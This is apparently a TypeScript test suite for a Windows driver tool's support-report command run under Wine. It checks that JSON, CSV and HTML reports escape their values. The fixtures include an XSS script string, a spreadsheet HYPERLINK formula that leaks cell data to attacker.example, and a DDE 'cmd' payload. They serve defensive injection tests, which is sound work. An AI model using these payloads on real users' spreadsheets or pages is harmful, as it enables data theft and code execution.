/**
 * `drivers-cli report` under Wine: every driver with its probe, status and
 * quarantine, the pending restarts, the machine and Windows version, as JSON,
 * CSV and one self-contained HTML page in which every value is escaped.
 */
import assert from 'node:assert/strict';
import { copyFileSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { root } from '../../scripts/prepare-wine';
import { parse } from 'csv-parse/sync';
import type { SupportReport } from '../../app/supportReport';
import { runCli, type CliRun } from './cliRunner';
import { faultyFixtures, registerFixtures, signedFixtureDrivers } from './fixtureRegistry';
import { driveC, startBench, testPrefix, windowsPath, type Bench } from './wineBench';
import { NATIVE_VIEW } from '../../app/views';
import { wineReg } from '../../scripts/wineRegistry';

/** Registered parameters as a hostile or careless installer might write them. */
const hostile = 'fixture.dll name=fx.hostile query=0 <script>alert("x")</script> a,b "c" & </td>';
/** An alias and parameters that a spreadsheet would run as formulas. */
const formulaAlias = '=HYPERLINK("http://attacker.example/?"&A1,"Details")';
const formulaParameters = '+cmd|\' /C calc\'!A0 name=fx.formula';
const drivers32 = 'HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Drivers32';

describe('support reports', () => {
  let bench: Bench | undefined;
  const dir = join(driveC, 'reports');

  before(async () => {
    bench = await startBench();
    registerFixtures(testPrefix, bench.env, { ...faultyFixtures, ...signedFixtureDrivers, 'fx.hostile': hostile }, {
      // 32-bit drivers, run by the 32-bit host: their quarantine and restart are reported alike.
      'fx.crashwow': 'fixture.dll name=fx.crashwow query=1 crash=8',
      'fx.restartwow': 'fixture.dll name=fx.restartwow query=1 configure=2',
    });
    // A driver disabled by Sysinternals Autoruns, as Autoruns stores it: the report must say who disabled it.
    wineReg(bench.env, NATIVE_VIEW, 'add', `${drivers32}\\AutorunsDisabled`, '/v', 'fx.autoruns', '/d', 'fixture.dll name=fx.autoruns query=1', '/f');
    rmSync(dir, { recursive: true, force: true });
    // A quarantine and a pending restart for the report to carry.
    await cli('probe', 'fx.crashquery');
    await cli('configure', 'fx.restart');
    await cli('probe', 'fx.crashwow');
    await cli('configure', 'fx.restartwow');
  });
  after(() => {
    if (bench) registerFixtures(testPrefix, bench.env);
    bench?.stop();
  });

  function cli(...args: string[]): Promise<CliRun> {
    return runCli({ ...bench?.env, WINEPREFIX: testPrefix, DRIVERS_PANEL_STATE_DIR: windowsPath(join(dir, 'state')) }, args);
  }

  it('carries every driver, probe, status, quarantine and pending restart, and the machine', { timeout: 120_000 }, async () => {
    const run = await cli('report', '--format', 'json');
    assert.equal(run.status, 0, run.stderr);
    const report = JSON.parse(run.stdout) as SupportReport;
    assert.ok(report.machine.name.length > 0 && /Windows/.test(report.machine.windows), JSON.stringify(report.machine));
    assert.ok(Math.abs(Date.parse(report.generatedAt) - Date.now()) < 120_000);
    const entry = (alias: string) => report.drivers.find((d) => d.alias === alias);
    assert.equal(entry('msacm.imaadpcm')?.probe?.configurable, true);
    assert.equal(entry('fx.missing')?.status, 'missing-file');
    assert.deepEqual([entry('vidc.cvid')?.details?.signature?.verdict, entry('vidc.cvid')?.details?.signature?.code], ['unsigned', '0x800B0100'], 'signatures are in');
    assert.equal(entry('fx.crashquery')?.quarantine?.what, 'crashed');
    assert.deepEqual([entry('fx.crashwow')?.view, entry('fx.crashwow')?.quarantine?.what], ['32-bit', 'crashed']);
    assert.deepEqual([entry('fx.wow')?.view, entry('fx.wow')?.probe?.loadedPath?.toLowerCase()], ['32-bit', 'c:\\windows\\syswow64\\fixture.dll']);
    assert.deepEqual(report.restarts.map((r) => [r.id, r.action]), [['64-bit:fx.restart', 'configure'], ['32-bit:fx.restartwow', 'configure']]);
  });

  it('writes CSV that a CSV reader reads back field for field', { timeout: 60_000 }, async () => {
    const file = join(dir, 'drivers.csv');
    const run = await cli('report', '--format', 'csv', '--out', windowsPath(file));
    assert.equal(run.status, 0, run.stderr);
    const rows: Array<Record<string, string>> = parse(readFileSync(file, 'utf8'), { columns: true });
    const row = rows.find((r) => r.alias === 'fx.hostile');
    assert.equal(row?.parameters, hostile.slice('fixture.dll '.length));
    assert.equal(rows.find((r) => r.alias === 'fx.crashquery')?.status, 'quarantined');
    assert.equal(rows.find((r) => r.alias === 'fx.restart')?.['restart pending for'], 'configure');
  });

  it('carries in its CSV and HTML what a technician needs of the JSON: file size and dates, who disabled it, where it was loaded from, the signature\'s source, the machine', { timeout: 120_000 }, async () => {
    const json = await cli('report', '--format', 'json');
    assert.equal(json.status, 0, json.stderr);
    const report = JSON.parse(json.stdout) as SupportReport;
    const file = join(dir, 'fields.csv');
    assert.equal((await cli('report', '--format', 'csv', '--out', windowsPath(file))).status, 0);
    const rows: Array<Record<string, string>> = parse(readFileSync(file, 'utf8'), { columns: true });
    assert.equal(rows.length, report.drivers.length, 'a row for every driver');
    for (const driver of report.drivers) {
      const row = rows.find((r) => r.alias === driver.alias && r.view === driver.view);
      assert.ok(row, `${driver.alias} (${driver.view}) has a row`);
      const { details, probe } = driver;
      assert.deepEqual(
        [row.size, row.created, row.modified, row['disabled by'], row.openable, row['loaded from'], row.machine, row.windows],
        [
          details?.identity ? String(details.identity.size) : '',
          details?.created ?? '',
          details?.identity?.modified ?? '',
          driver.disabledBy ?? '',
          driver.openable ? 'yes' : 'no',
          probe?.loadedPath ?? '',
          report.machine.name,
          report.machine.windows,
        ],
        driver.alias,
      );
      assert.equal(row['probe duration (ms)'] !== '', probe !== null, `${driver.alias}: a probe's duration is there exactly when it was probed`);
    }
    const row = (alias: string): Record<string, string> | undefined => rows.find((r) => r.alias === alias);
    // Checked against the file itself, not only against the JSON.
    assert.equal(row('fx.plain')?.size, String(statSync(join(driveC, 'windows', 'system32', 'fixture.dll')).size));
    assert.ok(Math.abs(Date.parse(row('fx.plain')?.modified ?? '') - statSync(join(driveC, 'windows', 'system32', 'fixture.dll')).mtimeMs) < 1_000);
    assert.match(row('fx.plain')?.['loaded from'] ?? '', /^C:\\windows\\system32\\fixture\.dll$/i);
    assert.equal(row('fx.autoruns')?.status, 'disabled');
    assert.equal(row('fx.autoruns')?.['disabled by'], 'autoruns');
    assert.equal(row('fx.autoruns')?.openable, 'no');
    assert.equal(row('fx.missing')?.size, '', 'no size for a file that is missing');
    assert.equal(row('fx.signed')?.['signature source'], 'embedded');
    assert.equal(row('vidc.cvid')?.['signature source'], '', 'an unsigned file has no signature to have a source');
    assert.match(row('fx.crashquery')?.quarantine ?? '', /^crashed in DRV_QUERYCONFIGURE at \d{4}-.+ \(exit code 0xC0000005 \(access violation\)\)$/);

    const html = join(dir, 'fields.html');
    assert.equal((await cli('report', '--format', 'html', '--out', windowsPath(html))).status, 0);
    const page = readFileSync(html, 'utf8');
    const section = (alias: string): string => [...page.matchAll(/<section><h3>([^<]*)<\/h3>(.*?)<\/section>/gs)].find((m) => m[1] === alias)?.[2] ?? '';
    const field = (alias: string, name: string): string | undefined => new RegExp(`<dt>${name.replace(/[()]/g, '\\$&')}</dt><dd>([^<]*)</dd>`).exec(section(alias))?.[1];
    assert.equal(field('fx.plain', 'size'), row('fx.plain')?.size);
    assert.equal(field('fx.plain', 'modified'), row('fx.plain')?.modified);
    assert.equal(field('fx.plain', 'created'), row('fx.plain')?.created);
    assert.equal(field('fx.plain', 'loaded from'), row('fx.plain')?.['loaded from']);
    assert.equal(field('fx.autoruns', 'disabled by'), 'autoruns');
    assert.equal(field('fx.missing', 'status'), 'File missing (missing-file)', 'the panel\'s words, the code beside them');
  });

  it('writes one self-contained HTML page with every value escaped', { timeout: 60_000 }, async () => {
    const file = join(dir, 'drivers.html');
    assert.equal((await cli('report', '--format', 'html', '--out', windowsPath(file))).status, 0);
    const html = readFileSync(file, 'utf8');
    assert.ok(!html.includes('<script'), 'no script, not even the one a driver registered');
    assert.ok(html.includes('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; a,b &quot;c&quot; &amp; &lt;/td&gt;'));
    assert.doesNotMatch(html, /<link|src=|href=|@import|url\(/, 'nothing loaded from elsewhere');
    assert.match(html, /@media print/);
  });

  it('writes to a device such as NUL as Windows means it, creating no file of that name', { timeout: 120_000 }, async () => {
    const folder = join(dir, 'devices');
    mkdirSync(folder, { recursive: true });
    for (const out of ['NUL', 'nul.json', `${windowsPath(folder)}\\Nul.csv`]) {
      const run = await cli('report', '--out', out);
      assert.equal(run.status, 0, `${out}: ${run.stderr}`);
    }
    const named = (names: string[]): string[] => names.filter((name) => /^nul(\.|$)/i.test(name));
    assert.deepEqual(named(readdirSync(root)), [], 'no file named NUL in the working folder');
    assert.deepEqual(named(readdirSync(folder)), [], 'nor in the folder named with it');
  });

  it('writes no report over a file that is not one, such as a registered driver, unless --force says so', { timeout: 120_000 }, async () => {
    const dll = join(driveC, 'windows', 'system32', 'fixture.dll');
    const before = readFileSync(dll);
    const refused = await cli('report', '--out', 'C:\\windows\\system32\\fixture.dll');
    assert.equal(refused.status, 1, refused.stderr);
    assert.match(refused.stdout, /C:\\windows\\system32\\fixture\.dll is not a report.*--force/);
    assert.deepEqual(readFileSync(dll), before, 'the driver is unchanged');

    const copy = join(dir, 'codec.dll');
    copyFileSync(dll, copy);
    const json = await cli('report', '--out', windowsPath(copy), '--json');
    assert.equal(json.status, 1);
    assert.equal((JSON.parse(json.stdout) as { error: { code: string } }).error.code, 'file-conflict');
    assert.deepEqual(readFileSync(copy), before);
    const forced = await cli('report', '--out', windowsPath(copy), '--force');
    assert.equal(forced.status, 0, forced.stderr);
    assert.ok((JSON.parse(readFileSync(copy, 'utf8')) as SupportReport).drivers.length > 0, 'the report replaced the file');
  });

  it('writes over a report it wrote earlier, in any format, without --force', { timeout: 120_000 }, async () => {
    const file = join(dir, 'again.report');
    for (const format of ['json', 'csv', 'html', 'json']) {
      const run = await cli('report', '--format', format, '--out', windowsPath(file));
      assert.equal(run.status, 0, `${format} over the last one: ${run.stdout}${run.stderr}`);
    }
    assert.ok((JSON.parse(readFileSync(file, 'utf8')) as SupportReport).drivers.length > 0);
    writeFileSync(file, 'notes a person kept\r\n');
    assert.equal((await cli('report', '--out', windowsPath(file))).status, 1, 'a file that is no longer a report is kept');
    assert.equal(readFileSync(file, 'utf8'), 'notes a person kept\r\n');
    assert.ok(!existsSync(join(root, 'NUL')));
  });

  it('says what to do when the file cannot be written', { timeout: 60_000 }, async () => {
    const run = await cli('report', '--out', 'Z:\\no\\such\\folder\\r.json', '--json');
    assert.equal(run.status, 1);
    const error = (JSON.parse(run.stdout) as { error: { code: string; message: string } }).error;
    assert.equal(error.code, 'write-failed');
    assert.match(error.message, /Choose a folder that exists/);
  });
});

describe('CSV reports opened in a spreadsheet', () => {
  let bench: Bench | undefined;

  before(async () => {
    bench = await startBench();
    registerFixtures(testPrefix, bench.env, { [formulaAlias]: 'fixture.dll name=fx.formula query=0', 'fx.formula': `fixture.dll ${formulaParameters}` });
  });
  after(() => {
    if (bench) registerFixtures(testPrefix, bench.env);
    bench?.stop();
    rmSync(join(driveC, 'formulas.csv'), { force: true });
    rmSync(join(driveC, 'formulas-state'), { recursive: true, force: true });
  });

  it('writes CSV that a spreadsheet does not run: cells that would start a formula begin with a single quote', { timeout: 60_000 }, async () => {
    const file = join(driveC, 'formulas.csv');
    const run = await runCli({ ...bench?.env, WINEPREFIX: testPrefix, DRIVERS_PANEL_STATE_DIR: windowsPath(join(driveC, 'formulas-state')) }, ['report', '--format', 'csv', '--out', windowsPath(file)]);
    assert.equal(run.status, 0, run.stderr);
    const rows: Array<Record<string, string>> = parse(readFileSync(file, 'utf8'), { columns: true });
    assert.ok(rows.some((r) => r.alias === `'${formulaAlias}`), 'the alias is neutralised');
    assert.equal(rows.find((r) => r.alias === 'fx.formula')?.parameters, `'${formulaParameters}`);
    assert.equal(rows.find((r) => r.alias === 'vidc.cvid')?.DRV_QUERYCONFIGURE, '-1', 'a number stays a number');
    for (const row of rows) {
      for (const [field, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+@\t\r]|^-(?!\d+$)/, `${row.alias}: ${field}`);
    }
  });
});
